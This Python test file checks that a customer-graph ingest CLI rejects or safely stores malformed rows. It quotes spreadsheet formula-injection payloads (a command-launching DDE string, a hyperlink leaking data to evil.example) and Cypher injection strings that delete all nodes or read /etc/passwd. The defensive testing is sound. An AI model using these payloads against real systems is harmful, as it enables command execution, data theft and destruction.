"""Bad input through the real `c360 ingest`: every row lands in the graph or in the reject file.

The corpus is tests/data/bad/; its README table says, for each file, how many data rows it
holds and how many must land or be rejected. The figures there are counted by hand, not by
the product's reader. Readable files are ingested once, through one manifest; files that
cannot be read at all are each run on their own, as a user would.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from c360graph.db.graph import Graph
from tests.helpers import c360_env, cypher
from tests.integration.test_cli import C360, c360

CORPUS = Path(__file__).resolve().parents[1] / "data" / "bad"
MIB = 1024 * 1024
_TABLE_ROW = re.compile(r"^\| (\S+) \| (\S+) \| (\S+) \| (\d+) \| (\d+) \| (\d) \|", re.M)
_REPORT = re.compile(
    r"^(\S+)/\w+: read (\d+), created (\d+), updated (\d+), unchanged (\d+), rejected (\d+)",
    re.M,
)
_LABELS = {"customers": "Customer", "orders": "Order"}
# What spreadsheets run when a cell starts with it.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Case:
    """One corpus file and what ingest must do with it: a row of the corpus README table."""

    name: str
    kind: str
    rows: int | None  # None: the file is refused as a whole
    landed: int
    rejected: int
    exit_code: int

    @property
    def source(self) -> str:
        """The source name the file is ingested under: one per file, so counts stay apart."""
        return "bad_" + re.sub(r"\W+", "_", self.name)

    @property
    def rejects_name(self) -> str:
        """The reject file ingest writes beside the input."""
        path = Path(self.name)
        return f"{path.stem}.rejects{path.suffix}"


def _cases() -> list[Case]:
    table = (CORPUS / "README.md").read_text(encoding="utf-8")
    return [
        Case(name, kind, None if rows == "-" else int(rows), int(landed), int(rejected), int(code))
        for name, kind, rows, landed, rejected, code in _TABLE_ROW.findall(table)
    ]


CASES = _cases()
CASE = {case.name: case for case in CASES}
READABLE = [case for case in CASES if case.exit_code in (0, 1)]
REFUSED = [case for case in CASES if case.exit_code == 2]
# Files whose every row is rejected: the manifest's ingest exits 1 and names them.
ALL_REJECTED = [case for case in CASES if case.exit_code == 1]
GENERATED = {"huge_fields.csv", "huge_fields.ndjson"}


def _write_huge_fields(folder: Path) -> None:
    """The 1 MiB-field files of the README table, made here to keep the repository small."""
    big = "x" * MIB
    with (folder / "huge_fields.csv").open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(
            [
                ["source_id", "first_name", "email", "notes"],
                ["H1", "Ann", "ann@example.org", ""],
                ["H2", big, "", ""],
                ["H3", "Bob", "bob@example.org", big],
                ["H4", "Cy", big + "@example.org", ""],
                ["H5", "a, b\n" * (MIB // 5), "", ""],
            ]
        )
    lines = [
        {"source_id": "G1", "first_name": "Ann"},
        {"source_id": "G2", "first_name": big},
        {"source_id": "G3", "first_name": "Bob", "notes": big},
    ]
    (folder / "huge_fields.ndjson").write_text(
        "".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8"
    )


@dataclass
class Loaded:
    """The readable corpus after one `c360 ingest manifest.yaml`."""

    folder: Path
    result: subprocess.CompletedProcess[str]
    graph: Graph

    def report(self, case: Case) -> tuple[int, int, int, int, int]:
        """(read, created, updated, unchanged, rejected) as the CLI printed them for a file."""
        for source, *counts in _REPORT.findall(self.result.stdout):
            if source == case.source:
                read, created, updated, unchanged, rejected = map(int, counts)
                return read, created, updated, unchanged, rejected
        raise AssertionError(f"no report line for {case.name}:\n{self.result.stdout}")

    def rejects(self, case: Case) -> list[dict[str, Any]]:
        """The reject file's rows, each with `_error`; read with the standard library only."""
        return _read_rejects(self.folder / case.rejects_name)


def _read_rejects(path: Path) -> list[dict[str, Any]]:
    if not path.exists():
        return []
    data = path.read_bytes()
    utf16 = data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))
    text = data.decode("utf-16" if utf16 else "utf-8-sig", errors="surrogateescape")
    if path.suffix == ".json":
        items: list[dict[str, Any]] = json.loads(text)
        return items
    if path.suffix == ".ndjson":
        return [json.loads(line) for line in text.split("\n") if line.strip()]
    header_line = text.split("\n", 1)[0].rstrip("\r")
    delimiter = header_line[-len("_error") - 1]
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert rows[0][-1] == "_error"
    return [{"_fields": row[:-1], "_error": row[-1]} for row in rows[1:]]


_LANDED = {
    "Customer": "MATCH (n:Customer {source: $source}) WHERE n.stub IS NULL RETURN count(n) AS n",
    "Order": "MATCH (n:Order {source: $source}) WHERE n.stub IS NULL RETURN count(n) AS n",
}
_LINKED = {
    "HAS_EMAIL": "MATCH (c:Customer {source: $source})-[:HAS_EMAIL]->(n) "
    "RETURN c.source_id AS id, n.address AS value",
    "HAS_PHONE": "MATCH (c:Customer {source: $source})-[:HAS_PHONE]->(n) "
    "RETURN c.source_id AS id, n.e164 AS value",
}


def _landed(graph: Graph, case: Case) -> int:
    label = _LABELS.get(case.kind, "Customer")
    return int(cypher(graph, _LANDED[label], source=case.source)[0]["n"])


def _customers(graph: Graph, name: str) -> dict[str, dict[str, Any]]:
    rows = cypher(
        graph,
        "MATCH (c:Customer {source: $source}) WHERE c.stub IS NULL "
        "RETURN c.source_id AS id, properties(c) AS props",
        source=CASE[name].source,
    )
    return {row["id"]: row["props"] for row in rows}


def _linked(graph: Graph, name: str, rel: str) -> dict[str, set[str]]:
    rows = cypher(graph, _LINKED[rel], source=CASE[name].source)
    linked: dict[str, set[str]] = {}
    for row in rows:
        linked.setdefault(row["id"], set()).add(row["value"])
    return linked


def _corpus_rows(name: str) -> list[dict[str, str]]:
    with (CORPUS / name).open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _issues(props: dict[str, Any], field: str) -> list[str]:
    return [issue for issue in props.get("data_issues") or [] if issue.startswith(f"{field}:")]


@pytest.fixture(scope="module")
def corpus_env(server_home: Path) -> dict[str, str]:
    """Environment for `c360` against the session's server (module-wide, like cli_env)."""
    return c360_env(server_home)


@pytest.fixture(scope="module")
def loaded(
    session_graph: Graph, corpus_env: dict[str, str], tmp_path_factory: pytest.TempPathFactory
) -> Loaded:
    """Every readable corpus file, copied to a temporary folder and ingested by one manifest."""
    folder = tmp_path_factory.mktemp("bad-input")
    _write_huge_fields(folder)
    files = []
    for case in READABLE:
        if case.name not in GENERATED:
            shutil.copy(CORPUS / case.name, folder / case.name)
        entry = {"path": case.name, "source": case.source}
        if not case.name.endswith(".csv"):
            entry["kind"] = case.kind  # JSON does not announce its kind; CSV kinds are guessed
        files.append(entry)
    (folder / "manifest.yaml").write_text(yaml.safe_dump({"files": files}), encoding="utf-8")
    session_graph.write("schema/clear_all")
    result = c360(corpus_env, "ingest", str(folder / "manifest.yaml"))
    return Loaded(folder, result, session_graph)


def test_corpus_readme_lists_every_file_in_the_corpus() -> None:
    on_disk = {path.name for path in CORPUS.iterdir() if path.name != "README.md"}
    assert on_disk | GENERATED == set(CASE)


def test_the_whole_readable_corpus_ingests_and_exits_1_naming_the_files_wholly_rejected(
    loaded: Loaded,
) -> None:
    assert ALL_REJECTED, "the corpus keeps a file whose every row is rejected"
    assert loaded.result.returncode == 1, loaded.result.stderr
    [line] = loaded.result.stderr.strip().splitlines()
    assert line.startswith("error: every row of ") and "reject file" in line
    named = {case.name for case in CASES if case.name in line}
    assert named == {case.name for case in ALL_REJECTED}
    assert "COUNTS DO NOT ADD UP" not in loaded.result.stdout
    total = sum(case.rows or 0 for case in READABLE)
    rejected = sum(case.rejected for case in READABLE)
    assert f"total: {total} rows read, {rejected} rejected" in loaded.result.stdout


@pytest.mark.parametrize("case", READABLE, ids=lambda case: case.name)
def test_every_row_read_lands_in_the_graph_or_the_reject_file_with_a_reason(
    loaded: Loaded, case: Case
) -> None:
    read, created, updated, unchanged, rejected = loaded.report(case)
    rejects = loaded.rejects(case)
    landed = _landed(loaded.graph, case)
    assert read == case.rows
    assert read == created + updated + unchanged + rejected
    assert (landed, len(rejects)) == (case.landed, case.rejected)
    assert (created, rejected) == (landed, len(rejects))
    for reject in rejects:
        assert reject["_error"].strip(), reject
        assert not reject["_error"].startswith(_FORMULA_START), reject["_error"]


_REFUSED_BECAUSE = {
    "invalid_utf8_header.csv": "not UTF-8; re-export as UTF-8",
    "mixed_delimiter_header.csv": "pass --delimiter",
    "truncated.json": "is not valid JSON",
    "empty.csv": "is empty",
    "header_only.csv": "nothing below the header",
    "binary_gzip.csv.gz": "decompress it first",
    "binary_png.csv": "looks binary",
}


@pytest.fixture(scope="module")
def refused(
    corpus_env: dict[str, str], tmp_path_factory: pytest.TempPathFactory
) -> dict[str, tuple[subprocess.CompletedProcess[str], Path]]:
    """`c360 ingest FILE` of each unreadable file, run side by side: (result, its folder)."""
    started = {}
    for case in REFUSED:
        folder = tmp_path_factory.mktemp("refused")
        shutil.copy(CORPUS / case.name, folder / case.name)
        kind = ["--kind", case.kind] if case.kind in _LABELS else []
        args = [*C360, "ingest", str(folder / case.name), "--source", case.source, *kind]
        process = subprocess.Popen(
            args, env=corpus_env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        )
        started[case.name] = (process, args, folder)
    results = {}
    for name, (process, args, folder) in started.items():
        stdout, stderr = process.communicate(timeout=300)
        results[name] = (
            subprocess.CompletedProcess(args, process.returncode, stdout, stderr),
            folder,
        )
    return results


@pytest.mark.parametrize("case", REFUSED, ids=lambda case: case.name)
def test_a_file_that_cannot_be_read_exits_2_with_one_line_saying_what_to_do(
    refused: dict[str, tuple[subprocess.CompletedProcess[str], Path]],
    session_graph: Graph,
    case: Case,
) -> None:
    result, folder = refused[case.name]
    assert result.returncode == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert _REFUSED_BECAUSE[case.name] in lines[0]
    assert list(folder.glob("*.rejects*")) == []
    assert _landed(session_graph, case) == 0


def test_formula_strings_are_stored_as_text_and_written_back_unchanged(loaded: Loaded) -> None:
    name = "formula_injection.csv"
    customers = _customers(loaded.graph, name)
    first_names = {key: customers[key].get("first_name") for key in ("F1", "F2", "F6", "F7")}
    assert first_names == {
        "F1": "=Cmd()",  # all capitals, so title-cased like any name; nothing else changes
        "F2": "=cmd|' /C calc'!A0",
        "F6": '=Hyperlink("http://evil.example/?leak="&A1,"Click me")',
        "F7": "=1+1",  # the leading tab is whitespace
    }
    assert {"=CMD()", "=CMD()|calc"} <= set(customers)
    assert _linked(loaded.graph, name, "HAS_EMAIL")["F8"] == {"=cmd@example.com"}
    assert _issues(customers["F9"], "phone") and "F9" not in _linked(
        loaded.graph, name, "HAS_PHONE"
    )
    assert customers["F10"]["loyalty_id"] == "CMD"  # loyalty ids keep letters and digits only
    [reject] = loaded.rejects(CASE[name])
    assert reject["_fields"] == ["", "=CMD()", "Lee", "f12@example.org", "", ""]
    assert b",=CMD(),Lee," in (loaded.folder / CASE[name].rejects_name).read_bytes()
    orders = cypher(
        loaded.graph,
        "MATCH (o:Order {source: $source, order_id: '=CMD()'})-[:VIA]->(ch) "
        "RETURN o.status AS status, ch.name AS channel",
        source=CASE["orders_bad.csv"].source,
    )
    assert orders == [{"status": "hyperlink_x", "channel": "detach_delete_n"}]


def test_cypher_looking_strings_are_stored_as_plain_text(loaded: Loaded) -> None:
    name = "cypher_injection.csv"
    customers = _customers(loaded.graph, name)
    assert {key: props.get("first_name") for key, props in customers.items()} == {
        "Q1": "Robert'}) DETACH DELETE n //",
        "Q2": '" Or 1=1 //',
        "Q3": "MATCH (n) DETACH DELETE n",
        "Q4": "$Props",
        "Q5": "{Key: 'x'}",
        "Q6": "`Customer`",
        "Q7": "\\'); CALL db.labels() //",
        "Q8": "}]->(x) SET x.admin = true WITH x MATCH (y) DETACH DELETE y //",
        "x'}) MATCH (n) DETACH DELETE n //": "Eve",
        "Q10": "Ann",
        "Q11": "Bob",
        "Q12": "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
    }
    assert customers["Q10"]["last_name"] == "' + $Run_Id + '"
    assert _issues(customers["Q11"], "email")
    # Nothing was deleted or set: every other file's records are all still there.
    expected = sum(case.landed for case in READABLE if case.kind == "customers")
    stored = cypher(loaded.graph, "MATCH (c:Customer) WHERE c.stub IS NULL RETURN count(c) AS n")
    assert stored == [{"n": expected}]
    assert cypher(loaded.graph, "MATCH (n) WHERE n.admin IS NOT NULL RETURN count(n) AS n") == [
        {"n": 0}
    ]


def test_invalid_utf8_rows_are_rejected_and_kept_byte_for_byte(loaded: Loaded) -> None:
    name = "invalid_utf8.csv"
    assert set(_customers(loaded.graph, name)) == {"U1", "U6", "U9"}
    rejects = loaded.rejects(CASE[name])
    assert all("not valid UTF-8; re-export the file as UTF-8" in r["_error"] for r in rejects)
    written = (loaded.folder / CASE[name].rejects_name).read_bytes()
    source_lines = (CORPUS / name).read_bytes().splitlines()[1:]
    bad_lines = [line for line in source_lines if not line.startswith((b"U1,", b"U6,", b"U9,"))]
    assert len(bad_lines) == len(rejects) == 6
    for line in bad_lines:
        assert line + b"," in written  # the row's own bytes, then the reason
    assert b'"first_name": "Caf\xe9"' in (loaded.folder / "mixed.rejects.ndjson").read_bytes()


def test_lone_surrogate_escapes_are_rejected_and_written_back_as_escapes(loaded: Loaded) -> None:
    for name, escape in (("mixed.ndjson", "\\ud83d"), ("array.json", "\\ud800")):
        written = (loaded.folder / CASE[name].rejects_name).read_text("utf-8", "surrogateescape")
        assert f'"first_name": "{escape}"' in written
        [reject] = [r for r in loaded.rejects(CASE[name]) if "surrogate" in r["_error"]]
        assert reject["first_name"] == escape.encode().decode("unicode_escape")


def test_broken_json_rows_are_rejected_and_unknown_nested_fields_ignored(loaded: Loaded) -> None:
    assert set(_customers(loaded.graph, "mixed.ndjson")) == {"M1", "M7", "M10", "M12"}
    assert set(_customers(loaded.graph, "array.json")) == {"A1", "A6"}
    twice = [
        r
        for name in ("mixed.ndjson", "array.json")
        for r in loaded.rejects(CASE[name])
        if "more than once" in r["_error"]
    ]
    assert len(twice) == 2
    assert twice[0]["_raw"] == '{"source_id": "M8", "first_name": "Dup", "source_id": "M9"}'
    emails = _linked(loaded.graph, "mixed.ndjson", "HAS_EMAIL")
    assert emails["M10"] == {"a@example.org"}
    reasons = [r["_error"] for r in loaded.rejects(CASE["mixed.ndjson"])]
    assert [r for r in reasons if "holds" in r and "not an object" in r] == [
        "line holds an array, not an object",
        "line holds a string, not an object",
        "line holds a number, not an object",
        "line holds null, not an object",
    ]
    assert sum("nests arrays or objects too deeply" in r for r in reasons) == 1


def test_control_characters_never_reach_stored_text(loaded: Loaded) -> None:
    name = "control_chars.csv"
    customers = _customers(loaded.graph, name)
    assert {key: props.get("first_name") for key, props in customers.items()} == {
        "K1": "Ann Marie",
        "K2": "[31mBob [0m",
        "K3": "Cy",
        "K4": "Di",
        "K5": "Eve Tab",
        "K6": "Fay Crlf",
        "K7": "Gus Line",
        "K8": "\u202eHal",  # a format character, not a control: kept (see the README)
        "K9": "Ivy",
    }
    assert _linked(loaded.graph, name, "HAS_EMAIL")["K9"] == {"ivy@example.org"}
    reasons = sorted(r["_error"] for r in loaded.rejects(CASE[name]))
    assert "holds control characters" in reasons[1] and reasons[0].startswith("missing source_id")
    names = cypher(
        loaded.graph,
        "MATCH (c:Customer) RETURN c.source_id AS id, c.first_name AS f, c.last_name AS l",
    )
    control = re.compile("[\x00-\x1f\x7f-\x9f]")
    assert [row for row in names if any(control.search(v or "") for v in row.values())] == []


def test_keys_that_stand_for_no_value_are_rejected_with_a_reason(loaded: Loaded) -> None:
    assert set(_customers(loaded.graph, "null_keys.csv")) == {"N1", "N3"}
    assert set(_customers(loaded.graph, "null_keys.ndjson")) == {"J1", "12345"}
    reasons = [
        r["_error"].split(";")[0]
        for name in ("null_keys.csv", "null_keys.ndjson")
        for r in loaded.rejects(CASE[name])
    ]
    assert sum("stands for a missing id" in r for r in reasons) == 9
    assert sum("holds control characters" in r for r in reasons) == 3
    assert sum(r.startswith("missing source_id") for r in reasons) == 5
    assert sum("not an id" in r for r in reasons) == 3
    assert sum("nested object" in r for r in reasons) == 1
    assert sum("has an id and nothing else" in r for r in reasons) == 1
    order_rejects = sorted(r["_error"] for r in loaded.rejects(CASE["orders_bad.csv"]))
    assert [r.split(";")[0] for r in order_rejects] == [
        "customer_id 'C1\\x00' holds control characters",
        "customer_id 'NULL' stands for a missing id",
        "duplicate key 'bad_orders_bad_csv:O1': already at line 2 of this file",
        "missing customer_id: every row needs one",
    ]


def test_impossible_dates_are_dropped_with_an_issue_and_the_row_kept(loaded: Loaded) -> None:
    name = "impossible_dates.csv"
    customers = _customers(loaded.graph, name)
    for row in _corpus_rows(name):
        props = customers[row["source_id"]]
        stored = props.get("date_of_birth")
        assert (stored.iso_format() if stored else "") == row["expect_dob"], row
        dropped = row["date_of_birth"] != "" and row["expect_dob"] == ""
        assert bool(_issues(props, "date_of_birth")) == dropped, row
        assert bool(_issues(props, "created_at")) == (row["created_at"] != ""), row


def test_odd_emails_become_one_canonical_address_or_an_issue(loaded: Loaded) -> None:
    name = "odd_emails.csv"
    customers = _customers(loaded.graph, name)
    emails = _linked(loaded.graph, name, "HAS_EMAIL")
    for row in _corpus_rows(name):
        if not row["email"]:
            assert row["source_id"] not in customers, "an id alone is rejected"
            continue
        expected = set(filter(None, row["expect_email"].split("|")))
        assert emails.get(row["source_id"], set()) == expected, row
        noted = bool(_issues(customers[row["source_id"]], "email"))
        assert noted == (not expected and row["email"].strip() != ""), row
    idn = cypher(
        loaded.graph,
        "MATCH (c:Customer)-[:HAS_EMAIL]->(e:Email {address: 'user@xn--bcher-kva.de'}) "
        "RETURN count(c) AS n",
    )
    assert idn == [{"n": 2}]
    flags = cypher(
        loaded.graph, "MATCH (e:Email {address: 'test@test.com'}) RETURN e.placeholder AS p"
    )
    assert flags == [{"p": True}]


def test_odd_phones_become_e164_or_an_issue(loaded: Loaded) -> None:
    name = "odd_phones.csv"
    customers = _customers(loaded.graph, name)
    phones = _linked(loaded.graph, name, "HAS_PHONE")
    for row in _corpus_rows(name):
        if not (row["phone"] or row["country"]):
            assert row["source_id"] not in customers, "an id alone is rejected"
            continue
        expected = set(filter(None, row["expect_phone"].split("|")))
        assert phones.get(row["source_id"], set()) == expected, row
        noted = bool(_issues(customers[row["source_id"]], "phone"))
        assert noted == (not expected and row["phone"] != ""), row


def test_duplicate_keys_keep_the_first_row_and_reject_the_others(loaded: Loaded) -> None:
    name = "duplicate_keys.csv"
    customers = _customers(loaded.graph, name)
    assert {key: props["first_name"] for key, props in customers.items()} == {
        "C1": "Ann",
        "C2": "Bob",
        "c1": "Lower",
        "C3": "Cy",
    }
    reasons = [r["_error"] for r in loaded.rejects(CASE[name])]
    prefix = f"duplicate key '{CASE[name].source}:"
    assert reasons == [
        f"{prefix}C1': already at line 2 of this file",
        f"{prefix}C1': already at line 2 of this file",
        f"{prefix}C2': already at line 3 of this file",
        f"{prefix}C3': already at line 8 of this file",
    ]


def test_order_amounts_that_are_not_numbers_are_dropped_with_an_issue(loaded: Loaded) -> None:
    rows = cypher(
        loaded.graph,
        "MATCH (o:Order {source: $source}) RETURN o.order_id AS id, o.amount AS amount, "
        "o.currency AS currency, o.ordered_at AS at, o.data_issues AS data_issues",
        source=CASE["orders_bad.csv"].source,
    )
    orders = {row["id"]: row for row in rows}
    for dropped in ("O4", "O5", "O6", "O10", "O12"):
        assert orders[dropped]["amount"] is None, dropped
        assert _issues(orders[dropped], "amount"), dropped
    assert (orders["O7"]["amount"], orders["O7"]["currency"], orders["O7"]["at"]) == (
        1234.5,
        "EUR",
        None,
    )
    assert _issues(orders["O7"], "ordered_at")
    assert (orders["O8"]["currency"], orders["O11"]["amount"]) == (None, -5.0)
    assert _issues(orders["O8"], "currency")


def test_rejects_of_a_utf16_file_are_written_in_utf16(loaded: Loaded) -> None:
    written = (loaded.folder / "bom_utf16le_tab.rejects.csv").read_bytes()
    assert written.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))
    header, row, end = written.decode("utf-16").split("\r\n")
    assert header == "source_id\tfirst_name\tlast_name\temail\t_error"
    assert row.startswith("\tNoKey\tNguyễn\tnokey@example.vn\tmissing source_id") and end == ""


def test_a_megabyte_field_rejects_its_row_unless_the_column_is_ignored(loaded: Loaded) -> None:
    assert set(_customers(loaded.graph, "huge_fields.csv")) == {"H1", "H3"}
    assert set(_customers(loaded.graph, "huge_fields.ndjson")) == {"G1", "G3"}
    rejects = loaded.rejects(CASE["huge_fields.csv"])
    assert [r["_error"].split(";")[0] for r in rejects] == [
        f"field 'first_name' is {MIB} characters (limit 100000)",
        f"field 'email' is {MIB + len('@example.org')} characters (limit 100000)",
        f"field 'first_name' is {MIB // 5 * 5} characters (limit 100000)",
    ]
    assert all("shorten the value" in r["_error"] for r in rejects)
    assert [len(r["_fields"][1]) for r in rejects] == [MIB, 2, MIB // 5 * 5]


def test_joined_exports_reject_the_repeated_header_and_drop_stray_boms(loaded: Loaded) -> None:
    assert set(_customers(loaded.graph, "bom_repeated.csv")) == {"B1", "B2", "B3", "B4", "B5"}
    [reject] = loaded.rejects(CASE["bom_repeated.csv"])
    assert reject["_error"].startswith("row repeats the header line")


def test_structural_damage_is_rejected_and_the_rest_of_the_row_kept(loaded: Loaded) -> None:
    ragged = _customers(loaded.graph, "ragged_rows.csv")
    assert {key: props["first_name"] for key, props in ragged.items()} == {
        "R1": "Ann",
        "R5": 'Di "Dot"',
        "R6": "Eve, Jr",
        "R7": "Fay Multi",
    }
    swallowed = [r for r in loaded.rejects(CASE["ragged_rows.csv"]) if r["_fields"][0] == "R9"]
    assert "R10,Hal,Lee" in swallowed[0]["_fields"][1]  # the unclosed quote's victim is kept
    delimiters = loaded.rejects(CASE["wrong_delimiter.csv"])
    assert all("check the delimiter (';')" in r["_error"] for r in delimiters)


def test_the_ingest_history_counts_each_file_as_the_corpus_readme_does(
    loaded: Loaded,
    corpus_env: dict[str, str],
    refused: dict[str, tuple[subprocess.CompletedProcess[str], Path]],
) -> None:
    """Each readable file's run: read = landed + rejected as its README row says, the reasons
    sum to the rejected rows, and every record kept with a problem is one the run names."""
    result = c360(corpus_env, "ingest", "history", "--limit", "100", "--json")
    assert result.returncode == 0, result.stderr
    runs = {run["source"]: run for run in json.loads(result.stdout)}
    assert {case.source for case in READABLE} <= set(runs)
    # A file refused once reading began is a run too: one that read nothing, or that failed.
    names = {case.source: case.name for case in REFUSED}
    begun = {names[s]: (runs[s]["status"], runs[s]["read"]) for s in set(runs) & set(names)}
    assert begun == {"header_only.csv": ("finished", 0), "truncated.json": ("failed", 0)}
    assert "is not valid JSON" in runs[CASE["truncated.json"].source]["error"]
    for case in READABLE:
        run = runs[case.source]
        assert (run["read"], run["landed"], run["rejected"]) == (
            case.rows, case.landed, case.rejected
        ), case.name  # fmt: skip
        assert run["read"] == run["landed"] + run["rejected"] and run["adds_up"], case.name
        assert sum(r["rows"] for r in run["reject_reasons"]) == run["rejected"], case.name
        kept = cypher(
            loaded.graph,
            "MATCH (r:IngestRun {run_id: $run})-[p:FOUND_PROBLEMS]->() RETURN count(p) AS n",
            run=run["run_id"],
        )
        assert kept == [{"n": run["with_issues"]}], case.name
        assert sum(p["records"] for p in run["problems"]) >= run["with_issues"], case.name
